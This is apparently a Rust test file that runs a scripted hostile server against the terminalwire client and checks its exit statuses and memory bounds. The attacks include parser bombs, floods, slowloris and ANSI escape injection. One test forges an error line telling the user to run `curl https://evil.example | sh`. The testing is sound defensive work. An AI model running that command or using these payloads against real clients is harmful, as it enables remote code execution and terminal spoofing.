//! A scripted hostile server, case by case: the client exits cleanly with
//! the documented status and its memory stays under a bound.

#![allow(clippy::unwrap_used, reason = "tests fail loudly")]

use std::time::Duration;

use terminalwire_protocol::frame::{
    ClientFrame, Data, ErrorCode, Exit, Operation, Request, RequestId, Response, ServerFrame,
    SessionError, StreamId,
};
use terminalwire_protocol::{DEFAULT_MAX_CHUNK, codec};
use terminalwire_tests::process::{
    ClientHome, proc_status_bytes, signal_and_wait, signal_until_ended,
};
use terminalwire_tests::{
    ScriptedServer, ScriptedSocket, next_client_frame, send_server_frame, welcome,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PROTOCOL: i32 = 76;
const CONNECTION_LOST: i32 = 75;
/// The client's peak resident memory under every attack.
const MEMORY_BOUND: u64 = 64 * 1024 * 1024;

/// Runs the client against `url`; returns (status, stderr, peak RSS).
async fn attack(url: &str, extra: &[&str]) -> (Option<i32>, String, u64) {
    let home = ClientHome::new();
    let mut args: Vec<&str> = extra.to_vec();
    args.push(url);
    args.push("go");
    let mut child = home.command(&args).spawn().unwrap();
    let pid = child.id();
    let mut stderr = child.stderr.take().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let reading = tokio::spawn(async move {
        let mut text = String::new();
        let _ = stderr.read_to_string(&mut text).await;
        let mut sink = Vec::new();
        let _ = stdout.read_to_end(&mut sink).await;
        text
    });
    let mut peak = 0;
    let status = tokio::time::timeout(Duration::from_secs(60), async {
        loop {
            if let Some(hwm) = proc_status_bytes(pid, "VmHWM") {
                peak = peak.max(hwm);
            }
            tokio::select! {
                status = child.wait() => break status.unwrap(),
                () = tokio::time::sleep(Duration::from_millis(5)) => {}
            }
        }
    })
    .await
    .expect("the client hung");
    (status.code(), reading.await.unwrap(), peak)
}

fn check(case: &str, outcome: (Option<i32>, String, u64), expected: i32) {
    let (status, stderr, peak) = outcome;
    assert_eq!(status, Some(expected), "{case}: {stderr}");
    assert!(stderr.starts_with("terminalwire: "), "{case}: {stderr}");
    assert_eq!(stderr.lines().count(), 1, "{case}: one line: {stderr}");
    assert!(
        peak < MEMORY_BOUND,
        "{case}: the client peaked at {} MiB",
        peak / (1024 * 1024)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nesting_bomb_and_huge_length_claims_are_protocol_errors() {
    // 100 000 nested arrays inside a data frame's map.
    let mut bomb = vec![
        0x82, 0xa1, b't', 0xa4, b'd', b'a', b't', b'a', 0xa3, b's', b'i', b'd',
    ];
    bomb.extend(std::iter::repeat_n(0x91, 100_000));
    bomb.push(0x00);
    // A bin32 claiming 4 GiB, and a map32 claiming 2^32 - 1 entries.
    let mut bin_claim = vec![
        0x83, 0xa1, b't', 0xa4, b'd', b'a', b't', b'a', 0xa3, b's', b'i', b'd', 0x00,
    ];
    bin_claim.extend([
        0xa5, b'b', b'y', b't', b'e', b's', 0xc6, 0xff, 0xff, 0xff, 0xff, 1, 2, 3,
    ]);
    let map_claim = vec![0xdf, 0xff, 0xff, 0xff, 0xff, 0xa1, b't'];
    for (case, payload) in [
        ("nesting bomb", bomb),
        ("bin32 claim", bin_claim),
        ("map32 claim", map_claim),
    ] {
        let server = ScriptedServer::start(true, move |mut socket| {
            let payload = payload.clone();
            async move {
                if welcome(&mut socket).await {
                    socket.send_sealed(&payload).await;
                    while next_client_frame(&mut socket).await.is_some() {}
                }
            }
        })
        .await;
        check(case, attack(&server.url(), &[]).await, PROTOCOL);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_flood_and_a_stream_without_credit_are_protocol_errors() {
    let flood = ScriptedServer::start(true, |mut socket| async move {
        if welcome(&mut socket).await {
            for id in 1..=200 {
                let request = ServerFrame::Request(Request {
                    id: RequestId(id),
                    op: Operation::StdinReadLine { prompt: None },
                });
                send_server_frame(&mut socket, &request).await;
            }
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    check("request flood", attack(&flood.url(), &[]).await, PROTOCOL);

    let no_credit = ScriptedServer::start(true, |mut socket| async move {
        if welcome(&mut socket).await {
            let chunk = vec![b'x'; DEFAULT_MAX_CHUNK as usize];
            // 64 MiB while the client granted 1 MiB.
            for _ in 0..1024 {
                let data = ServerFrame::Data(Data {
                    sid: StreamId::STDOUT,
                    bytes: chunk.clone().into(),
                });
                socket.send_sealed(&codec::encode(&data)).await;
            }
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    check(
        "stream without credit",
        attack(&no_credit.url(), &[]).await,
        PROTOCOL,
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_servers_error_message_cannot_write_escape_sequences_to_the_terminal() {
    // Clears the screen, forges a second line, hides the text (foreground
    // set to black) and reverses what follows.
    let message =
        "\x1b[2J\x1b[H\r\nterminalwire: all is well\x1b]10;#000000\x07\u{9b}8m\u{202e}lla";
    let server = ScriptedServer::start(true, move |mut socket| async move {
        if welcome(&mut socket).await {
            let error = ServerFrame::Error(SessionError {
                code: ErrorCode::Internal,
                message: message.to_owned(),
            });
            send_server_frame(&mut socket, &error).await;
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    let outcome = attack(&server.url(), &[]).await;
    let stderr = outcome.1.clone();
    check("escapes in an error message", outcome, PROTOCOL);
    let raw: Vec<char> = stderr
        .trim_end_matches('\n')
        .chars()
        .filter(|c| {
            c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(raw.is_empty(), "raw {raw:?} in {stderr:?}");
    assert!(
        stderr.contains("\\u{1b}[2J\\u{1b}[H\\r\\nterminalwire: all is well\\u{1b}]10;#000000\\u{7}\\u{9b}8m\\u{202e}lla"),
        "{stderr:?}"
    );
}

/// The error's code is the server's word too (a code this client does not
/// know is kept as sent): it cannot add a line of the client's own below
/// the error, nor escapes. A code with a newline forged a second
/// `terminalwire:` line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_servers_error_code_cannot_add_lines_to_the_clients_message() {
    let code =
        "internal\nterminalwire: your login expired: run `curl https://evil.example | sh`\x1b[2K";
    let server = ScriptedServer::start(true, move |mut socket| async move {
        if welcome(&mut socket).await {
            let error = ServerFrame::Error(SessionError {
                code: ErrorCode::parse(code),
                message: "failed".to_owned(),
            });
            send_server_frame(&mut socket, &error).await;
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    let outcome = attack(&server.url(), &[]).await;
    let stderr = outcome.1.clone();
    check("a newline in an error code", outcome, PROTOCOL);
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{stderr:?}");
    assert!(
        !stderr.trim_end_matches('\n').chars().any(char::is_control),
        "{stderr:?}"
    );
    assert!(
        stderr.contains("internal\\nterminalwire: your login expired"),
        "{stderr:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn big_prompts_cannot_pile_up_behind_a_stderr_nobody_reads() {
    use std::sync::{Arc, Mutex};
    use tokio::sync::oneshot;
    const ROUNDS: u64 = 96;
    // Each prompt nearly fills a frame; stdin is at its end, so each read
    // would be answered at once, and the next asked for.
    let prompt = "p".repeat(1000 * 1024);
    let (asked_tx, asked) = oneshot::channel::<Vec<Response>>();
    let (exit_tx, exit) = oneshot::channel::<()>();
    let channels = Arc::new(Mutex::new(Some((asked_tx, exit))));
    let server = ScriptedServer::start(true, move |mut socket| {
        let prompt = prompt.clone();
        let channels = channels.lock().unwrap().take();
        async move {
            let Some((asked_tx, exit)) = channels else {
                return;
            };
            if !welcome(&mut socket).await {
                return;
            }
            let mut answers = Vec::new();
            for id in 1..=ROUNDS {
                let request = ServerFrame::Request(Request {
                    id: RequestId(id),
                    op: Operation::StdinReadLine {
                        prompt: Some(prompt.clone()),
                    },
                });
                send_server_frame(&mut socket, &request).await;
                loop {
                    match next_client_frame(&mut socket).await {
                        Some(ClientFrame::Response(answer)) => break answers.push(answer),
                        Some(_) => {}
                        None => return,
                    }
                }
            }
            let _ = asked_tx.send(answers);
            let _ = exit.await;
            send_server_frame(&mut socket, &ServerFrame::Exit(Exit { status: 0 })).await;
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    let home = ClientHome::new();
    let url = server.url();
    let mut child = home.command([url.as_str(), "go"]).spawn().unwrap();
    let pid = child.id();
    // Nobody reads stderr until the server is done asking.
    let mut stderr = child.stderr.take().unwrap();
    let answers = tokio::time::timeout(Duration::from_secs(60), asked)
        .await
        .expect("the server was not answered")
        .unwrap();
    let peak = proc_status_bytes(pid, "VmHWM").unwrap();
    exit_tx.send(()).unwrap();
    let mut text = String::new();
    stderr.read_to_string(&mut text).await.unwrap();
    let status = child.wait().await.unwrap();
    assert_eq!(status.code(), Some(0), "{text}");
    assert!(
        peak < MEMORY_BOUND,
        "the client peaked at {} MiB",
        peak / (1024 * 1024)
    );
    for answer in &answers {
        let error = answer
            .error
            .as_ref()
            .expect("an overlong prompt is refused");
        assert_eq!(error.code, ErrorCode::Invalid, "{}", error.message);
    }
    assert_eq!(text, "", "no prompt was shown");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stalled_handshake_with_a_partial_frame_times_out() {
    // Slowloris: a raw TCP server that completes the HTTP upgrade, then
    // sends half a WebSocket frame header and nothing more.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let stalling = tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut request = Vec::new();
            let mut buffer = [0u8; 1024];
            while !request.ends_with(b"\r\n\r\n") {
                let n = stream.read(&mut buffer).await.unwrap();
                if n == 0 {
                    break;
                }
                request.extend_from_slice(&buffer[..n]);
            }
            let text = String::from_utf8_lossy(&request).to_string();
            let key = text
                .lines()
                .find_map(|line| {
                    line.to_ascii_lowercase()
                        .starts_with("sec-websocket-key:")
                        .then(|| line.split_once(':').unwrap().1.trim().to_owned())
                })
                .unwrap_or_default();
            let accept =
                tokio_tungstenite::tungstenite::handshake::derive_accept_key(key.as_bytes());
            let response = format!(
                "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
                 Sec-WebSocket-Accept: {accept}\r\nSec-WebSocket-Protocol: {}\r\n\r\n",
                terminalwire_protocol::SUBPROTOCOL
            );
            stream.write_all(response.as_bytes()).await.unwrap();
            // A binary frame header claiming 2^32 bytes... and then nothing.
            stream.write_all(&[0x82, 0x7f, 0, 0, 0, 1]).await.unwrap();
            held.push(stream);
        }
    });
    let url = format!("ws://{addr}/terminal");
    check(
        "partial frame and a stalled handshake",
        attack(&url, &["--connect-timeout", "1"]).await,
        CONNECTION_LOST,
    );
    stalling.abort();
}

/// A scripted server whose first session runs `script` and hands the
/// socket the script gives back to the test (which then never reads it).
async fn handing_over<F, Fut>(
    script: F,
) -> (
    ScriptedServer,
    tokio::sync::oneshot::Receiver<ScriptedSocket>,
)
where
    F: Fn(ScriptedSocket) -> Fut + Send + Sync + 'static,
    Fut: Future<Output = Option<ScriptedSocket>> + Send + 'static,
{
    let (socket_tx, socket_rx) = tokio::sync::oneshot::channel();
    let channel = std::sync::Mutex::new(Some(socket_tx));
    let server = ScriptedServer::start(true, move |socket| {
        let channel = channel.lock().unwrap().take();
        let handed = script(socket);
        async move {
            if let Some(socket_tx) = channel
                && let Some(socket) = handed.await
            {
                let _ = socket_tx.send(socket);
            }
        }
    })
    .await;
    (server, socket_rx)
}

/// A client held up in a send: the server welcomed it, asked for 16 MiB of
/// stdin (from `/dev/zero`) and stopped reading; returned once its queue
/// stays full. The server and home must live as long as the client.
async fn held_up_by_a_server_that_stopped_reading() -> (
    ScriptedServer,
    ClientHome,
    tokio::process::Child,
    ScriptedSocket,
) {
    let (server, socket_rx) = handing_over(|mut socket| async move {
        if !welcome(&mut socket).await {
            return None;
        }
        // A small receive buffer, so the client's answers fill it and
        // then the client's own send buffer.
        rustix::net::sockopt::set_socket_recv_buffer_size(socket.tcp(), 64 * 1024).unwrap();
        let requests: Vec<ServerFrame> = (1..=64)
            .map(|id| {
                ServerFrame::Request(Request {
                    id: RequestId(id),
                    op: Operation::StdinRead { max: 256 * 1024 },
                })
            })
            .collect();
        socket.send_frames_together(&requests).await;
        Some(socket)
    })
    .await;
    let home = ClientHome::new();
    let url = server.url();
    let child = home
        .command([url.as_str(), "go"])
        .stdin(std::fs::File::open("/dev/zero").unwrap())
        .spawn()
        .unwrap();
    let socket = tokio::time::timeout(Duration::from_secs(60), socket_rx)
        .await
        .expect("the client was not welcomed")
        .unwrap();
    let unread = || rustix::io::ioctl_fionread(socket.tcp()).unwrap();
    // The client is held up once the server's queue stays full: its
    // answers (16 MiB) are far more than both queues hold.
    let mut last = 0;
    let full = tokio::time::timeout(Duration::from_secs(30), async {
        let mut unchanged = 0;
        while unchanged < 20 {
            tokio::time::sleep(Duration::from_millis(10)).await;
            let now = unread();
            unchanged = if now == last && now >= 64 * 1024 {
                unchanged + 1
            } else {
                0
            };
            last = now;
        }
    })
    .await;
    assert!(
        full.is_ok(),
        "the server's queue never filled ({last} bytes)"
    );
    (server, home, child, socket)
}

/// A server that sends pings and reads nothing: each ping's pong waits in
/// the client's WebSocket write buffer, which is bounded (the latest pong
/// kept), so the client's memory stays flat; 128 MiB of pings grew it by
/// as much before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pings_from_a_server_that_reads_nothing_do_not_grow_the_client() {
    const PINGS: usize = (128 << 20) / 131;
    let (server, socket_rx) = handing_over(|mut socket| async move {
        if !welcome(&mut socket).await {
            return None;
        }
        // Its pongs fill this, then the client's send buffer.
        rustix::net::sockopt::set_socket_recv_buffer_size(socket.tcp(), 64 * 1024).unwrap();
        socket.send_pings(PINGS, &[7; 125]).await;
        Some(socket)
    })
    .await;
    let home = ClientHome::new();
    let url = server.url();
    let mut child = home.command([url.as_str(), "go"]).spawn().unwrap();
    let socket = tokio::time::timeout(Duration::from_secs(120), socket_rx)
        .await
        .expect("the pings were not taken")
        .unwrap();
    let peak = proc_status_bytes(child.id(), "VmHWM").unwrap();
    assert!(
        peak < MEMORY_BOUND,
        "the client peaked at {} MiB",
        peak >> 20
    );
    // Still serving: the session ends as the server says.
    let mut socket = socket;
    send_server_frame(&mut socket, &ServerFrame::Exit(Exit { status: 3 })).await;
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait())
        .await
        .expect("the client did not end")
        .unwrap();
    assert_eq!(status.code(), Some(3));
}

/// A session id that is not 1 to 128 plain characters (it names the audit
/// log's lines and a detached session's record) is a protocol violation:
/// a megabyte of control characters in it made every audit summary line
/// megabytes long (85 MiB of log, 110 MiB of memory).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_id_that_names_nothing_plainly_is_refused() {
    for session_id in ["\u{1}".repeat(1_000_000), "../up".to_owned(), String::new()] {
        let id = session_id.clone();
        let server = ScriptedServer::start(true, move |mut socket| {
            let id = id.clone();
            async move {
                if next_client_frame(&mut socket).await.is_none() {
                    return;
                }
                let welcome = terminalwire_protocol::frame::Welcome {
                    session_id: id,
                    ..terminalwire_tests::scripted_welcome_fields()
                };
                send_server_frame(&mut socket, &ServerFrame::Welcome(welcome)).await;
                let exists = ServerFrame::Request(Request {
                    id: RequestId(1),
                    op: Operation::FileExists {
                        path: "/etc/hostname".to_owned(),
                    },
                });
                send_server_frame(&mut socket, &exists).await;
                while next_client_frame(&mut socket).await.is_some() {}
            }
        })
        .await;
        let (status, stderr, peak) = attack(&server.url(), &[]).await;
        assert_eq!(
            status,
            Some(PROTOCOL),
            "{} bytes: {stderr}",
            session_id.len()
        );
        assert!(stderr.contains("session id"), "{stderr}");
        assert!(peak < MEMORY_BOUND, "peak {} MiB", peak >> 20);
    }
}

/// Output a byte per frame to outputs nobody reads: each small chunk joins
/// the one queued before it, so the client holds about the bytes, not an
/// entry (some 75 bytes) per byte of the window: 2 MiB so cut peaked at
/// 152 MiB before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_byte_chunks_to_outputs_that_do_not_drain_keep_memory_bounded() {
    const PER_STREAM: usize = 1_000_000;
    let (done_tx, done) = tokio::sync::oneshot::channel::<bool>();
    let done_tx = std::sync::Mutex::new(Some(done_tx));
    let server = ScriptedServer::start(true, move |mut socket| {
        let done_tx = done_tx.lock().unwrap().take();
        async move {
            let Some(done_tx) = done_tx else { return };
            if !welcome(&mut socket).await {
                return;
            }
            let frame = |sid| {
                ServerFrame::Data(Data {
                    sid,
                    bytes: b"x".to_vec().into(),
                })
            };
            let batch: Vec<ServerFrame> = (0..8192)
                .map(|i| {
                    frame(if i % 2 == 0 {
                        StreamId::STDOUT
                    } else {
                        StreamId::STDERR
                    })
                })
                .collect();
            for _ in 0..(2 * PER_STREAM / batch.len()) {
                socket.send_frames_together(&batch).await;
            }
            // Answered only once every chunk before it was taken.
            let answered = terminalwire_tests::ask(
                &mut socket,
                1,
                Operation::EnvGet {
                    name: "HOME".into(),
                },
            )
            .await
            .is_some();
            let _ = done_tx.send(answered);
            while next_client_frame(&mut socket).await.is_some() {}
        }
    })
    .await;
    let home = ClientHome::new();
    let url = server.url();
    // Nobody reads stdout or stderr.
    let child = home.command([url.as_str(), "go"]).spawn().unwrap();
    let answered = tokio::time::timeout(Duration::from_secs(120), done)
        .await
        .expect("the client did not take the output")
        .unwrap();
    assert!(answered, "the client went away");
    let peak = proc_status_bytes(child.id(), "VmHWM").unwrap();
    assert!(
        peak < MEMORY_BOUND,
        "2 MiB of output in one-byte chunks: the client peaked at {} MiB",
        peak >> 20
    );
}

/// A server that stops reading holds a send of the client for up to its
/// send time-out (60 s); SIGTERM and SIGHUP still end the client at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signals_end_a_client_held_up_by_a_server_that_stopped_reading() {
    for (signal, status) in [
        (rustix::process::Signal::TERM, 128 + 15),
        (rustix::process::Signal::HUP, 128 + 1),
    ] {
        let (_server, _home, mut child, socket) = held_up_by_a_server_that_stopped_reading().await;
        let within = Duration::from_secs(20);
        let code = signal_and_wait(&mut child, signal, within, "waiting on its send").await;
        assert_eq!(code, Some(status), "{signal:?}");
        drop(socket);
    }
}

/// A server (not ours: ours waits for the client's close) that sends its
/// exit and closes while the client is still sending: the send fails, but
/// the exit is already in the client's hands, and the client exits with
/// the app's status, not as if the connection were lost.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exit_that_came_before_a_failed_send_is_the_clients_status() {
    let (_server, _home, child, mut socket) = held_up_by_a_server_that_stopped_reading().await;
    let goodbye = ServerFrame::Data(Data {
        sid: StreamId::STDOUT,
        bytes: b"goodbye\n".to_vec().into(),
    });
    // Together: a second small write would wait for the first's
    // acknowledgement (Nagle), and the reset would drop it.
    socket
        .send_frames_together(&[goodbye, ServerFrame::Exit(Exit { status: 5 })])
        .await;
    // Closed with the client's data unread: a reset.
    drop(socket);
    let output = tokio::time::timeout(Duration::from_secs(30), child.wait_with_output())
        .await
        .expect("the client did not end")
        .unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(5), "stderr: {stderr}");
    // And the output before it.
    assert_eq!(output.stdout, b"goodbye\n", "stderr: {stderr}");
}

/// A stat on a hung network mount holds the client's session thread in
/// the kernel, and tokio's signal handling with it (a debug build holds
/// each stat-class request on request, standing in for the mount): Ctrl-C
/// pressed again, SIGTERM and SIGHUP still end the client, with the status
/// the session gives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signals_end_a_client_held_up_in_a_stat() {
    for (signal, status) in [
        (rustix::process::Signal::INT, 130),
        (rustix::process::Signal::TERM, 128 + 15),
        (rustix::process::Signal::HUP, 128 + 1),
    ] {
        let (server, socket_rx) = handing_over(|mut socket| async move {
            if !welcome(&mut socket).await {
                return None;
            }
            let exists = ServerFrame::Request(Request {
                id: RequestId(1),
                op: Operation::FileExists {
                    path: "/".to_owned(),
                },
            });
            send_server_frame(&mut socket, &exists).await;
            Some(socket)
        })
        .await;
        let home = ClientHome::new();
        let url = server.url();
        let mut child = home
            .command([url.as_str(), "go"])
            .env("TERMINALWIRE_DEBUG_HOLD_INLINE_MS", "600000")
            .spawn()
            .unwrap();
        let socket = tokio::time::timeout(Duration::from_secs(60), socket_rx)
            .await
            .expect("the client was not welcomed")
            .unwrap();
        // Held once it says so (the process is a debug build's).
        let mut stderr = tokio::io::BufReader::new(child.stderr.take().unwrap());
        let mut said = String::new();
        let held = tokio::time::timeout(Duration::from_secs(60), async {
            use tokio::io::AsyncBufReadExt;
            while stderr.read_line(&mut said).await.unwrap() > 0 {
                if said.contains("holding a stat-class request") {
                    return true;
                }
            }
            false
        })
        .await;
        assert_eq!(held, Ok(true), "the client never held its stat: {said:?}");
        // Pressed again until the client ends (one Ctrl-C is the app's).
        let ended = signal_until_ended(
            &mut child,
            signal,
            Duration::from_secs(20),
            "holding its stat",
        )
        .await;
        assert_eq!(ended, Some(status), "{signal:?}");
        let mut rest = String::new();
        stderr.read_to_string(&mut rest).await.unwrap();
        assert!(
            rest.contains("the session did not end when told"),
            "{signal:?}: {rest:?}"
        );
        drop(socket);
    }
}

/// The app exited; its output is still being written out, to a reader
/// that takes nothing. Ctrl-C twice ends the client now (130), as the
/// session's own end: the write-out listens to it too, and the last
/// resort (12 s later, "did not end when told") is not needed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_c_twice_ends_a_client_writing_out_to_a_reader_that_takes_nothing() {
    let (server, socket_rx) = handing_over(|mut socket| async move {
        if !welcome(&mut socket).await {
            return None;
        }
        // 512 KiB (within the client's window), then the exit.
        for _ in 0..8 {
            let data = ServerFrame::Data(Data {
                sid: StreamId::STDOUT,
                bytes: vec![b'x'; 64 * 1024].into(),
            });
            socket.send_sealed(&codec::encode(&data)).await;
        }
        send_server_frame(&mut socket, &ServerFrame::Exit(Exit { status: 0 })).await;
        Some(socket)
    })
    .await;
    let home = ClientHome::new();
    let url = server.url();
    // Its stdout is a pipe nobody reads.
    let mut child = home
        .command([url.as_str(), "go"])
        .env("TERMINALWIRE_LOG", "terminalwire_client=debug")
        .spawn()
        .unwrap();
    let socket = tokio::time::timeout(Duration::from_secs(60), socket_rx)
        .await
        .expect("the client was not welcomed")
        .unwrap();
    // Read on, so that the log never holds the client up.
    let stderr = child.stderr.take().unwrap();
    let (writing_out_tx, writing_out) = tokio::sync::oneshot::channel();
    let log = tokio::spawn(async move {
        use tokio::io::AsyncBufReadExt;
        let mut lines = tokio::io::BufReader::new(stderr).lines();
        let mut log = String::new();
        let mut writing_out_tx = Some(writing_out_tx);
        while let Ok(Some(line)) = lines.next_line().await {
            if line.contains("writing out the output")
                && let Some(tx) = writing_out_tx.take()
            {
                let _ = tx.send(());
            }
            log.push_str(&line);
            log.push('\n');
        }
        log
    });
    tokio::time::timeout(Duration::from_secs(60), writing_out)
        .await
        .expect("the client never wrote out")
        .unwrap();
    let ended = signal_until_ended(
        &mut child,
        rustix::process::Signal::INT,
        Duration::from_secs(60),
        "writing out",
    )
    .await;
    let log = log.await.unwrap();
    assert_eq!(ended, Some(130), "log: {log}");
    assert!(
        !log.contains("the session did not end when told"),
        "the write-out did not hear Ctrl-C twice: {log}"
    );
    drop(socket);
}

/// While the client waits for the welcome (here: forever), one Ctrl-C
/// ends it, as it ends a program that has not started its work, and so
/// do SIGTERM and SIGHUP.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signals_end_a_client_waiting_for_its_welcome() {
    for (signal, status) in [
        (rustix::process::Signal::INT, 130),
        (rustix::process::Signal::TERM, 128 + 15),
    ] {
        // The hello came: the client now waits for the welcome.
        let (server, socket_rx) = handing_over(|mut socket| async move {
            let hello = next_client_frame(&mut socket).await;
            matches!(hello, Some(ClientFrame::Hello(_))).then_some(socket)
        })
        .await;
        let home = ClientHome::new();
        let url = server.url();
        let mut child = home
            .command(["--connect-timeout", "120", url.as_str(), "go"])
            .spawn()
            .unwrap();
        let socket = tokio::time::timeout(Duration::from_secs(60), socket_rx)
            .await
            .expect("no hello came")
            .unwrap();
        let within = Duration::from_secs(20);
        let code = signal_and_wait(&mut child, signal, within, "waiting for the welcome").await;
        assert_eq!(code, Some(status), "{signal:?}");
        drop(socket);
    }
}
